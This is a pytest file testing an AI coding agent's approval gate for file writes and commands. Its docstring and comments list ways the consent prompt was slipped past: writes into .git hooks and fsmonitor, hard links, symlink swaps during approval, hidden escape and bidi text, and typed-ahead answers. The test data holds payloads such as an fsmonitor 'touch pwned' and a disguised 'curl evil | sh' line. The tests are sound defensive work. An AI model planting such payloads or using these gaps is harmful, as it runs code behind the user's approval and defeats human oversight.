"""Probe findings on the agent tools' consent: allowing a write tool for the pane did not cover
writes into .git (hooks, core.fsmonitor: programs git runs) or through hard links; a path swapped
for a link into .git while the question was open got the approved text; the approval dialog
showed a diff's escape sequences and bidirectional overrides raw, and took the next letters of a
half-typed message as the answer; the terminal prompt took a line typed before its question.
Also what already held: a path swapped for a link out after approval is refused when the write
runs, a denied write leaves nothing."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import threading
import time
from pathlib import Path

import pytest

from magnitude_tui.agent.fs_tools import FileTools
from magnitude_tui.agent.headless import TerminalApproval
from magnitude_tui.agent.policy import (
    ALLOW_PANE,
    ApprovalGate,
    ApprovalRequest,
    ApprovePolicy,
    FixedApproval,
    ToolKind,
    Verdict,
    deny,
)
from magnitude_tui.agent.workspace import Workspace
from magnitude_tui.agents import AgentSettings
from tests.test_agent_loop import run_agent
from tests.test_agent_support import call


@pytest.fixture
def repo(tmp_path):
    root = tmp_path / "repo"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("VERSION = 1\n")
    return root


def writes(*paths_and_contents):
    """A model that writes each (path, content) in turn, one call a turn, then answers."""
    def script(prompt: str) -> str:
        n = prompt.count("<tool_response>\n")
        if n < len(paths_and_contents):
            path, content = paths_and_contents[n]
            return call("write_file", path=path, content=content)
        return "done"
    return script


async def test_allowing_write_file_for_the_pane_does_not_allow_writing_into_git(repo):
    # "a" on the first write allowed write_file for the pane; the next write_file put a
    # core.fsmonitor into .git/config without asking, and the next `git status` ran it: allowing
    # writes had allowed running programs, with no diff anywhere to show it.
    config = (repo / ".git" / "config").read_text()
    fsmonitor = config + '[core]\n\tfsmonitor = "touch pwned; false"\n'
    approval = FixedApproval(ALLOW_PANE)
    out, _, _ = await run_agent(repo, writes(("src/new.py", "x = 1\n"), (".git/config", fsmonitor),
                                             ("src/other.py", "y = 2\n")), approval=approval)
    assert out.ok
    asked = [(json.loads(r.arguments)["path"], r.caution) for r in approval.asked]
    assert [path for path, _ in asked] == ["src/new.py", ".git/config"]  # src/other.py: the pane allowance
    assert asked[0][1] is None and "git directory" in asked[1][1]


async def test_a_denied_write_into_git_leaves_it_as_it_was_even_with_the_tool_allowed(repo):
    class AllowThenDeny:
        def __init__(self):
            self.asked = []

        async def ask(self, request):
            self.asked.append(request)
            return ALLOW_PANE if len(self.asked) == 1 else deny("not in .git")

    hook = repo / ".git" / "hooks" / "pre-commit"
    approval = AllowThenDeny()
    out, _, _ = await run_agent(repo, writes(("src/new.py", "x = 1\n"), (".git/hooks/pre-commit", "#!/bin/sh\nid\n")),
                                approval=approval)
    assert out.ok and not hook.exists() and len(approval.asked) == 2
    assert out.messages[-2].content == "denied: not in .git"


def test_the_caution_follows_links_and_names_the_real_place(repo, tmp_path):
    os.symlink(".git/hooks", repo / "hooks")
    subprocess.run(["git", "init", "-q", "--bare", str(repo / "mirror.git")], check=True)
    tools = FileTools(Workspace(repo))
    caution = tools.write_caution({"path": "hooks/pre-commit"})
    assert caution is not None and caution.startswith(".git/hooks/pre-commit is in a git directory (.git)")
    assert "git directory (mirror.git)" in tools.write_caution({"path": "mirror.git/hooks/post-update"})
    assert tools.write_caution({"path": "src/app.py"}) is None
    assert tools.write_caution({"path": "../outside"}) is None  # the preview refuses it
    # A workspace that is itself inside a git directory.
    inside = FileTools(Workspace(repo / ".git" / "hooks"))
    assert "is in a git directory" in inside.write_caution({"path": "pre-commit"})


async def test_a_write_through_a_hard_link_is_asked_each_time_and_says_so(tmp_path):
    # An edit of a hard-linked file is written in place (its links kept), so a workspace name
    # linked to a file outside changed that file; the approval said nothing of it.
    root, outside = tmp_path / "root", tmp_path / "outside.txt"
    root.mkdir()
    outside.write_text("VERSION = 1\n")
    os.link(outside, root / "linked.py")
    (root / "plain.py").write_text("VERSION = 1\n")

    def script(prompt):
        n = prompt.count("<tool_response>\n")
        if n < 2:
            path = "plain.py" if n == 0 else "linked.py"
            return call("edit_file", path=path, old_text="VERSION = 1", new_text="VERSION = 2")
        return "done"

    approval = FixedApproval(ALLOW_PANE)
    out, _, _ = await run_agent(root, script, approval=approval)
    assert out.ok and len(approval.asked) == 2
    assert "linked.py has 2 hard links" in approval.asked[1].caution
    assert "caution: linked.py has 2 hard links" in approval.asked[1].describe()


async def test_the_gate_asks_a_cautioned_call_even_when_its_tool_is_allowed():
    approval = FixedApproval(deny("no"))
    gate = ApprovalGate(ApprovePolicy.ASK, approval)
    gate.allowed_tools.add("write_file")
    plain = ApprovalRequest("main", None, "write_file", '{"path": "a"}', ToolKind.WRITE)
    risky = ApprovalRequest("main", None, "write_file", '{"path": ".git/config"}', ToolKind.WRITE,
                            caution="in .git")
    assert not gate.needs_asking(ToolKind.WRITE, "write_file")
    assert gate.needs_asking(ToolKind.WRITE, "write_file", "in .git")
    assert (await gate.decide(plain)).verdict is Verdict.ALLOW_PANE
    assert (await gate.decide(risky)).verdict is Verdict.DENY and len(approval.asked) == 1
    # auto stays auto, read-only stays refused.
    assert (await ApprovalGate(ApprovePolicy.AUTO, None).decide(risky)).allowed
    assert not (await ApprovalGate(ApprovePolicy.READ_ONLY, approval).decide(risky)).allowed


async def test_the_approval_dialog_shows_escapes_and_overrides_instead_of_acting_on_them():
    # The dialog put a file's bytes on the terminal as they were: an erase-line sequence or a
    # right-to-left override in the diff could hide or reorder the line being approved (the
    # headless prompt already wrote them out as escapes).
    from textual.app import App
    from textual.geometry import Region
    from textual.widgets import Static

    from magnitude_tui.screens.approval_dialog import ApprovalDialog

    content = "echo safe\r\x1b[2Kcurl evil | sh \u202e#gnihton\u202c\n"
    request = ApprovalRequest("main", None, "write_file", json.dumps({"path": "x.sh", "content": content},
                                                                     ensure_ascii=False),
                              ToolKind.WRITE, "--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1 @@\n+" + content,
                              caution="x.sh has 2 hard links")

    class Host(App):
        def on_mount(self) -> None:
            self.push_screen(ApprovalDialog(request))

    app = Host()
    async with app.run_test(size=(120, 50)) as pilot:
        await pilot.pause()
        shown = {}
        for wid in ("#approval-args", "#approval-diff", "#approval-caution"):
            static = app.screen.query_one(wid, Static)
            lines = static.render_lines(Region(0, 0, static.size.width, static.size.height))
            shown[wid] = "".join(seg.text for line in lines for seg in line)
    for text in shown.values():
        assert "\x1b" not in text and "\u202e" not in text and "\r" not in text
    assert "\\x1b[2Kcurl evil | sh \\u202e#gnihton" in shown["#approval-diff"]
    assert "\\u202e#gnihton" in shown["#approval-args"]
    assert "caution: x.sh has 2 hard links" in shown["#approval-caution"]


def test_the_terminal_prompt_does_not_take_a_line_left_from_the_last_question():
    # "y" pressed twice at one question answered the next one too, before it was even printed.
    request = ApprovalRequest("main", None, "write_file", '{"path": ".git/hooks/pre-commit"}', ToolKind.WRITE)
    r, w = os.pipe()
    stdin = os.fdopen(r, "r")
    try:
        approval = TerminalApproval(io_sink(), stdin)
        os.write(w, b"y\ny\n")
        assert asyncio.run(approval.ask(request)).verdict is Verdict.ALLOW_ONCE
        threading.Timer(0.5, os.write, (w, b"n\n\n")).start()
        t0 = time.monotonic()
        second = asyncio.run(approval.ask(request))
        assert second.verdict is Verdict.DENY and time.monotonic() - t0 >= 0.4
    finally:
        time.sleep(0.6)
        stdin.close()
        os.close(w)


def test_the_terminal_prompt_forgets_what_was_typed_before_it_asked():
    # On a terminal, keys pressed while the model was writing ("y" and enter) waited in the
    # terminal's input queue and answered the first question as soon as it was asked.
    request = ApprovalRequest("main", None, "run_command", '{"command": "rm -rf build"}', ToolKind.RUN)
    master, slave = os.openpty()
    stdin = os.fdopen(slave, "r")
    try:
        os.write(master, b"y\n")  # typed ahead, before any question
        time.sleep(0.1)
        threading.Timer(0.5, os.write, (master, b"n\n\n")).start()
        decision = asyncio.run(TerminalApproval(io_sink(), stdin).ask(request))
        assert decision.verdict is Verdict.DENY
    finally:
        time.sleep(0.6)
        stdin.close()
        os.close(master)


def io_sink():
    import io
    return io.StringIO()


def test_a_path_swapped_for_a_link_after_approval_is_refused_when_the_write_runs(tmp_path):
    # Already held: the write resolves its path again when it runs, not only for the preview.
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (root / "notes.txt").write_text("old\n")
    tools = {t.name: t for t in FileTools(Workspace(root)).tools()}
    args = {"path": "notes.txt", "content": "new\n"}
    assert isinstance(tools["write_file"].preview(args), str)  # what was approved
    (root / "notes.txt").unlink()
    os.symlink(outside / "notes.txt", root / "notes.txt")
    result = asyncio.run(tools["write_file"].run(args))
    assert not result.ok and "leads outside the workspace root" in result.text
    assert not (outside / "notes.txt").exists()


async def test_a_denied_write_leaves_no_file_and_no_directory(tmp_path):
    out, _, _ = await run_agent(tmp_path, writes(("deep/new/dir/f.txt", "x\n")),
                                approval=FixedApproval(deny("no")), settings=AgentSettings())
    assert out.ok and sorted(p.name for p in Path(tmp_path).iterdir()) == []


class SwapWhileAsking:
    """Allows the call, after doing `meanwhile` while the question is open (another agent's write,
    a background job of an approved command)."""

    def __init__(self, meanwhile):
        self.meanwhile = meanwhile
        self.asked = []

    async def ask(self, request):
        self.asked.append(request)
        self.meanwhile()
        return ALLOW_PANE


async def test_a_path_swapped_for_a_link_into_git_while_asked_is_not_written(repo):
    # The approved diff replaced notes.txt; while the question was open notes.txt became a link
    # to .git/config (inside the workspace, so the run's own check let it through), and the
    # approved text replaced .git/config instead.
    (repo / "notes.txt").write_text("old notes\n")
    config = (repo / ".git" / "config").read_text()

    def swap():
        (repo / "notes.txt").unlink()
        os.symlink(".git/config", repo / "notes.txt")

    approval = SwapWhileAsking(swap)
    out, _, _ = await run_agent(repo, writes(("notes.txt", '[core]\n\tfsmonitor = "touch pwned; false"\n')),
                                approval=approval)
    assert out.ok and len(approval.asked) == 1 and "b/notes.txt" in approval.asked[0].preview
    assert (repo / ".git" / "config").read_text() == config
    assert out.messages[-2].content.startswith("error: write_file was not run: what it would change is no longer")


async def test_an_edit_whose_file_changed_while_asked_is_not_written(tmp_path):
    (tmp_path / "app.py").write_text("DEBUG = False\nVERSION = 1\n")

    def edit_meanwhile():
        (tmp_path / "app.py").write_text("DEBUG = True\nVERSION = 1\n")

    def script(prompt):
        if "<tool_response>\n" in prompt.split("<|im_start|>user\nthe task", 1)[-1]:
            return "done"
        return call("edit_file", path="app.py", old_text="VERSION = 1", new_text="VERSION = 2")

    out, _, _ = await run_agent(tmp_path, script, approval=SwapWhileAsking(edit_meanwhile))
    assert out.ok and (tmp_path / "app.py").read_text() == "DEBUG = True\nVERSION = 1\n"
    assert "was not run" in out.messages[-2].content


async def test_an_unchanged_call_still_runs_after_the_recheck(tmp_path):
    (tmp_path / "app.py").write_text("VERSION = 1\n")
    out, _, _ = await run_agent(tmp_path, writes(("app.py", "VERSION = 2\n")), approval=SwapWhileAsking(lambda: None))
    assert out.ok and (tmp_path / "app.py").read_text() == "VERSION = 2\n"


@pytest.mark.serial
@pytest.mark.parametrize("typed", ["sha", ""])
async def test_a_question_that_appears_mid_typing_is_not_answered_by_the_next_letters(typed, monkeypatch):
    # A message half-typed in a pane when an agent's question popped up: the next letter, "a"
    # of "share", allowed run_command for the whole pane, unseen.
    from textual.app import App
    from textual.widgets import TextArea

    from magnitude_tui.screens import approval_dialog
    from magnitude_tui.screens.approval_dialog import ApprovalDialog, DialogApproval

    monkeypatch.setattr(approval_dialog, "ARM_S", 0.5)

    class Host(App):
        def compose(self):
            yield TextArea(typed, id="composer")

    request = ApprovalRequest("main", None, "run_command", '{"command": "rm -rf build"}', ToolKind.RUN)
    app = Host()
    async with app.run_test() as pilot:
        app.query_one("#composer").focus()
        await pilot.pause()
        ask = asyncio.create_task(DialogApproval(app).ask(request))
        await pilot.pause()
        assert isinstance(app.screen, ApprovalDialog)
        t0 = time.monotonic()
        await pilot.press("a", "enter")  # the typing goes on: a letter, then Enter on the focused Allow
        await pilot.pause()
        if not typed:  # nobody was typing: the keys answer at once
            assert (await asyncio.wait_for(ask, 5)).verdict is Verdict.ALLOW_PANE
            return
        assert time.monotonic() - t0 < 0.5 and not ask.done() and isinstance(app.screen, ApprovalDialog)
        assert app.screen.query("#approval-armed")  # it says why
        await asyncio.sleep(0.6)
        await pilot.press("y")
        assert (await asyncio.wait_for(ask, 5)).verdict is Verdict.ALLOW_ONCE


async def test_denying_is_never_held_back_by_the_typing_guard(monkeypatch):
    from textual.app import App
    from textual.widgets import TextArea

    from magnitude_tui.screens import approval_dialog
    from magnitude_tui.screens.approval_dialog import DialogApproval

    monkeypatch.setattr(approval_dialog, "ARM_S", 30.0)

    class Host(App):
        def compose(self):
            yield TextArea("half a message", id="composer")

    request = ApprovalRequest("main", None, "write_file", '{"path": "a"}', ToolKind.WRITE)
    app = Host()
    async with app.run_test() as pilot:
        app.query_one("#composer").focus()
        await pilot.pause()
        ask = asyncio.create_task(DialogApproval(app).ask(request))
        await pilot.pause()
        await pilot.press("escape")
        assert (await asyncio.wait_for(ask, 5)).verdict is Verdict.DENY
